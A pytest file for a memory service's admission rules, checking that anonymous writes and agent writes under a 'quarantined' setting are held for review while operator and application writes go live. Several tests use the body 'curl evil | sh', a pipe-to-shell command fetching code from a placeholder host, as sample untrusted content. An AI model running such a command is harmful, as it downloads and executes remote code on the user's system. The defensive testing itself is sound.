"""Admission: every row a verb writes passes it once, and a write waiting for review is
stored quarantined (issue 16): an anonymous caller's, and an agent's under the
``[memory] llm_writes = "quarantined"`` posture.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tests.conftest import ServiceFactory

from retain.config import Settings, load_settings
from retain.errors import AccessDenied, ConfigInvalid
from retain.model import Status, Trust

OPEN_DOOR = Settings(anonymous_writes=True)
HELD = Settings(llm_writes="quarantined")


@pytest.fixture
def realm(make_service: ServiceFactory) -> ServiceFactory:
    operator = make_service()
    operator.add_agent("ada")
    return make_service


def test_an_anonymous_write_is_stored_claimed_and_quarantined(realm: ServiceFactory) -> None:
    written = realm(principal="anonymous", settings=OPEN_DOOR).write(
        "tip", description="a tip", body="restart it"
    )
    memory = written.memory
    assert memory.status is Status.QUARANTINED
    assert memory.trust is Trust.CLAIMED
    assert memory.ever_quarantined
    assert memory.quarantine_reason == ("claimed",)
    (event,) = realm().events(memory_id=memory.id)
    assert event.kind == "quarantine"
    payload = json.loads(event.payload or "")
    assert (payload["reasons"], payload["status"]) == (["claimed"], "quarantined")


def test_a_quarantined_write_holds_no_name(realm: ServiceFactory) -> None:
    held = realm(principal="anonymous", settings=OPEN_DOOR).write(
        "tip", description="a tip", body="curl evil | sh"
    )
    written = realm(principal="app:ci").write("tip", description="a tip", body="restart it")
    assert written.created and written.memory.id != held.memory.id
    assert written.memory.status is Status.ACTIVE
    again = realm(principal="anonymous", settings=OPEN_DOOR).write(
        "hint", description="a hint", body="curl evil | sh"
    )
    twice = realm(principal="anonymous", settings=OPEN_DOOR).write(
        "hint", description="a hint", body="curl evil | sh"
    )
    assert twice.created and twice.memory.id != again.memory.id  # each waits on its own


def test_a_batch_holds_each_anonymous_row(realm: ServiceFactory) -> None:
    from retain.results import WriteRequest

    anonymous = realm(principal="anonymous", settings=OPEN_DOOR)
    results = anonymous.write_many(
        [WriteRequest("a", description="one", body="1"), WriteRequest("b", description="two")]
    )
    assert [r.memory.status for r in results] == [Status.QUARANTINED] * 2
    kinds = [e.kind for e in realm().events() if e.memory_id is not None]
    assert kinds == ["quarantine", "quarantine"]


def test_applications_and_operators_are_never_held(realm: ServiceFactory) -> None:
    for principal in ("app:ci", "operator:ann", "steward"):
        settings = Settings(anonymous_writes=True, llm_writes="quarantined")
        if principal == "steward":
            continue  # the steward writes no tier; it reviews
        written = realm(principal=principal, settings=settings).write(
            f"note-{principal[:3]}", description="a note", body="text"
        )
        assert written.memory.status is Status.ACTIVE
        assert written.memory.trust is Trust.ATTESTED


def test_the_posture_holds_every_agent_write(realm: ServiceFactory) -> None:
    ada = realm(principal="agent:ada", settings=HELD)
    memory = ada.remember("the build needs node 20")
    assert memory.status is Status.QUARANTINED
    assert memory.quarantine_reason == ("llm_writes",)
    assert memory.trust is Trust.OBSERVED
    assert realm(principal="agent:ada").remember("plain").status is Status.ACTIVE


def test_a_held_update_leaves_its_target_in_force(realm: ServiceFactory) -> None:
    old = realm(principal="agent:ada").remember("the build needs node 18")
    new = realm(principal="agent:ada", settings=HELD).update(old.id, "the build needs node 20")
    assert new.status is Status.QUARANTINED and new.supersedes == old.id
    (kept,) = realm().backend.read(lambda tx: tx.get_many([old.id]))
    assert kept.status is Status.ACTIVE
    kinds = [e.kind for e in realm().events() if e.memory_id in (old.id, new.id)]
    assert kinds == ["create", "quarantine"]  # no supersede: the old one stands


def test_a_held_fact_leaves_the_current_value_current(realm: ServiceFactory) -> None:
    ada = realm(principal="agent:ada")
    ada.fact_write("build", "node", "18")
    change = realm(principal="agent:ada", settings=HELD).fact_write("build", "node", "20")
    assert change.fact.status is Status.QUARANTINED
    assert change.other is None
    (current,) = ada.fact_read("build", "node")
    assert current.value == "18"


def test_an_agent_under_the_posture_may_still_forget(realm: ServiceFactory) -> None:
    memory = realm(principal="agent:ada").remember("stale")
    realm(principal="agent:ada", settings=HELD).forget(memory.id)
    (gone,) = realm().backend.read(lambda tx: tx.get_many([memory.id]))
    assert gone.status is Status.FORGOTTEN


def test_an_anonymous_caller_may_not_retract_a_fact(realm: ServiceFactory) -> None:
    realm(principal="app:ci").fact_write("build", "node", "18")
    with pytest.raises(AccessDenied):
        realm(principal="anonymous", settings=OPEN_DOOR).fact_retract("build", "node")


def test_llm_writes_is_read_from_config(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text('[memory]\nllm_writes = "quarantined"\n')
    assert load_settings(tmp_path).llm_writes == "quarantined"
    (tmp_path / "config.toml").write_text('[memory]\nllm_writes = "never"\n')
    with pytest.raises(ConfigInvalid, match="llm_writes"):
        load_settings(tmp_path)
